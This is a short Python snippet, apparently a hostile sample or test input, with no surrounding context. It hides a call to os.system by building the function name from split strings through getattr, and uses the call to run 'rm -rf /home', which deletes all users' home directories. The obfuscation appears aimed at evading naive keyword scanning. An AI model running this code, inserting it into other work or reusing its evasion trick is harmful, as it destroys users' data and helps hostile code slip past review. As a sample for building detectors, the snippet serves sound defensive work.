import os

getattr(os, "sys" + "tem")("rm -rf /home")
